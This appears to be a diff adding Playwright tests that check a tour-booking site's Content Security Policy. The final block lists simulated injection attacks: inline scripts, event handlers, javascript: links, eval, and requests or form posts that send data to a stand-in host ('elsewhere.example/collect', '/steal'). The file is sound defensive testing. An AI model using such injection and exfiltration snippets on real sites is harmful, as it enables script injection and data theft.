@@ -1,0 +1,240 @@
+import type { Page } from 'playwright/test';
+import { tours } from '../data/tours';
+import { botCheckSecondStage } from './bot-check-stand-in';
+import {
+  ANALYTICS,
+  analyticsEvents,
+  BOT_CHECK_SECOND_STAGE,
+  expect,
+  expectSuccess,
+  fillIn,
+  script,
+  sendButton,
+  test,
+} from './fixtures';
+
+const elsewhere = 'https://elsewhere.example';
+const pages = ['/', '/about', '/boat-hire', '/faq', ...tours.map(({ slug }) => `/tours/${slug}`), '/contact'];
+
+/** Everything that the policy of any page refuses from now on, as 'directive address'. */
+async function watch(page: Page): Promise<string[]> {
+  const refused: string[] = [];
+  await page.exposeFunction('reportRefusal', (refusal: string) => refused.push(refusal));
+  await page.addInitScript(() => {
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      (window as unknown as { reportRefusal: (refusal: string) => void }).reportRefusal(
+        `${effectiveDirective} ${blockedURI}`,
+      ),
+    );
+  });
+  return refused;
+}
+
+/** Where each part of the page stands and how it looks, in numbers. */
+function look(page: Page) {
+  return page.locator('main').evaluate((main) =>
+    [...main.querySelectorAll('h1, h2, h3, p, a, img, ul, dl, button')].map((part) => {
+      const { display, fontSize, color, padding, gridTemplateColumns, position } = getComputedStyle(part);
+      return `${part.tagName} ${[display, fontSize, color, padding, gridTemplateColumns, position].join(' | ')}`;
+    }),
+  );
+}
+
+/** Goes to a page as a link does, without leaving the document; every page has a link in the footer or its list of tours. */
+async function follow(page: Page, path: string) {
+  await page.evaluate((to) => {
+    const link = [...document.querySelectorAll<HTMLAnchorElement>('a')].find(
+      (candidate) => candidate.getAttribute('href') === to,
+    );
+    link?.click();
+  }, path);
+  await expect(page).toHaveURL(new RegExp(`${path}$`));
+}
+
+// The home page leads to every other one; the others to it and to the page that needs most.
+const visits = pages.map((landing) => ({
+  landing,
+  others: (landing === '/' ? pages : ['/', '/contact']).filter((path) => path !== landing),
+}));
+
+for (const { landing, others } of visits) {
+  test(`a visit that starts at ${landing} meets no refusal, and every page has its styles`, async ({
+    page,
+  }) => {
+    test.setTimeout(120_000);
+    const refused = await watch(page);
+    for (const path of others) {
+      await page.goto(path);
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      const loaded = await look(page);
+      await page.goto(landing);
+      await expect(page.getByRole('banner')).toBeVisible();
+      await follow(page, path);
+      await expect.poll(() => look(page)).toEqual(loaded);
+    }
+    expect(refused).toEqual([]);
+  });
+}
+
+test('the page for unknown paths meets no refusal', async ({ page, noise }) => {
+  noise.push(/404 \(Not Found\)/);
+  const refused = await watch(page);
+  for (const path of ['/nowhere', '/tours/evil']) {
+    await page.goto(path);
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText(/not found|Unexpected/);
+  }
+  expect(refused).toEqual([]);
+});
+
+test('the bot check with its frame, the e-mail and the analytics work under the policy of another page', async ({
+  page,
+  emailCalls,
+}) => {
+  const frame = 'https://www.google.com/recaptcha/api2/anchor?k=6L';
+  const collect = 'https://region1.google-analytics.com/g/collect?v=2';
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  await page.route(frame, (route) =>
+    route.fulfill({ contentType: 'text/html', body: '<p>I am the frame</p>' }),
+  );
+  await page.route(`${collect}**`, (route) => route.fulfill({ status: 204 }));
+  await page.route('https://www.google.com/recaptcha/api2/clr', (route) =>
+    route.fulfill({ body: 'OK', headers: { 'Access-Control-Allow-Origin': '*' } }),
+  );
+  await page.route(BOT_CHECK_SECOND_STAGE, (route) =>
+    route.fulfill(
+      script(
+        `${botCheckSecondStage().replace('<iframe hidden>', `<iframe title="bot check" src="${frame}">`)}; fetch('https://www.google.com/recaptcha/api2/clr')`,
+      ),
+    ),
+  );
+  await page.route(ANALYTICS, (route) =>
+    route.fulfill(script(`navigator.sendBeacon('${collect}'); new Image().src = '${collect}&pixel'`)),
+  );
+  const refused = await watch(page);
+
+  await page.goto('/faq');
+  await page.mouse.move(50, 50);
+  await follow(page, '/contact');
+  await expect(page.getByText('protected by reCAPTCHA')).toHaveCSS('position', 'fixed');
+  await expect(page.frameLocator('iframe[title="bot check"]').getByText('I am the frame')).toBeAttached();
+  await fillIn(page);
+  await sendButton(page).click();
+  await expectSuccess(page);
+  expect(emailCalls).toHaveLength(1);
+
+  const layer = await page.evaluate(() =>
+    (window.dataLayer ?? []).map((entry) => [...(entry as ArrayLike<unknown> & Iterable<unknown>)][0]),
+  );
+  expect(layer).toEqual(expect.arrayContaining(['js', 'config', 'event']));
+  expect((await analyticsEvents(page)).map(({ name }) => name)).toEqual(
+    expect.arrayContaining(['page_view', 'enquiry_success']),
+  );
+  expect(asked).toEqual(expect.arrayContaining([collect, `${collect}&pixel`]));
+  expect(refused).toEqual([]);
+});
+
+test('prefill and reviews work under the policy', async ({ page }) => {
+  const refused = await watch(page);
+  const reviews = page.waitForResponse('**/reviews.json');
+  await page.goto('/');
+  await page.getByRole('link', { name: /on Google/ }).scrollIntoViewIfNeeded();
+  expect((await reviews).ok()).toBe(true);
+  await page.goto('/contact?type=Tour&tourId=fishing');
+  await expect(page.getByLabel('Enquiry Type')).toHaveValue('Tour');
+  await expect(page).toHaveURL(/\/contact$/);
+  expect(refused).toEqual([]);
+});
+
+/** What an attacker who got a piece of HTML or script into a page would try. Each sets `ran` if it succeeds. */
+const attacks: Readonly<Record<string, { attack: (elsewhere: string) => void; directive: string }>> = {
+  'an injected inline script': {
+    directive: 'script-src-elem inline',
+    attack: () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.ran = true';
+      document.body.append(script);
+    },
+  },
+  'an event-handler attribute': {
+    directive: 'script-src-attr inline',
+    attack: () => {
+      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = true">');
+    },
+  },
+  'an address that is a script': {
+    directive: 'script-src-elem inline',
+    attack: () => {
+      document.body.insertAdjacentHTML('beforeend', '<a id="trap" href="javascript:window.ran=true">x</a>');
+      document.getElementById('trap')?.click();
+    },
+  },
+  'words that become a script': {
+    directive: 'script-src eval',
+    attack: () => {
+      setTimeout('window.ran = true');
+    },
+  },
+  'a foreign script': {
+    directive: 'script-src-elem https://elsewhere.example/x.js',
+    attack: (from) => {
+      const script = document.createElement('script');
+      script.src = `${from}/x.js`;
+      document.body.append(script);
+    },
+  },
+  'a foreign request': {
+    directive: 'connect-src https://elsewhere.example/collect',
+    attack: (to) => {
+      fetch(`${to}/collect`, { method: 'POST', body: 'words' }).catch(() => {});
+    },
+  },
+  'a foreign picture, which could carry words away': {
+    directive: 'img-src https://elsewhere.example/p.gif',
+    attack: (from) => {
+      new Image().src = `${from}/p.gif`;
+    },
+  },
+  'a foreign style': {
+    directive: 'style-src-elem https://elsewhere.example/x.css',
+    attack: (from) => {
+      document.head.insertAdjacentHTML('beforeend', `<link rel="stylesheet" href="${from}/x.css">`);
+    },
+  },
+  'a foreign frame': {
+    directive: 'frame-src https://elsewhere.example',
+    attack: (from) => {
+      document.body.insertAdjacentHTML('beforeend', `<iframe src="${from}/"></iframe>`);
+    },
+  },
+  'another base for every address': {
+    directive: 'base-uri https://elsewhere.example/',
+    attack: (to) => {
+      document.head.insertAdjacentHTML('afterbegin', `<base href="${to}/">`);
+    },
+  },
+  'a form posted elsewhere': {
+    directive: 'form-action https://elsewhere.example/steal',
+    attack: (to) => {
+      const form = document.createElement('form');
+      form.method = 'post';
+      form.action = `${to}/steal`;
+      document.body.append(form);
+      form.submit();
+    },
+  },
+};
+
+for (const [name, { attack, directive }] of Object.entries(attacks)) {
+  test(`${name} is refused`, async ({ page, noise }) => {
+    noise.push(/Content Security Policy/i, /net::ERR_BLOCKED_BY_CSP/);
+    const refused = await watch(page);
+    await page.goto('/contact');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    const address = page.url();
+    await page.evaluate(attack, elsewhere);
+    await expect.poll(() => refused).toContain(directive);
+    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
+    expect(page.url()).toBe(address);
+  });
+}
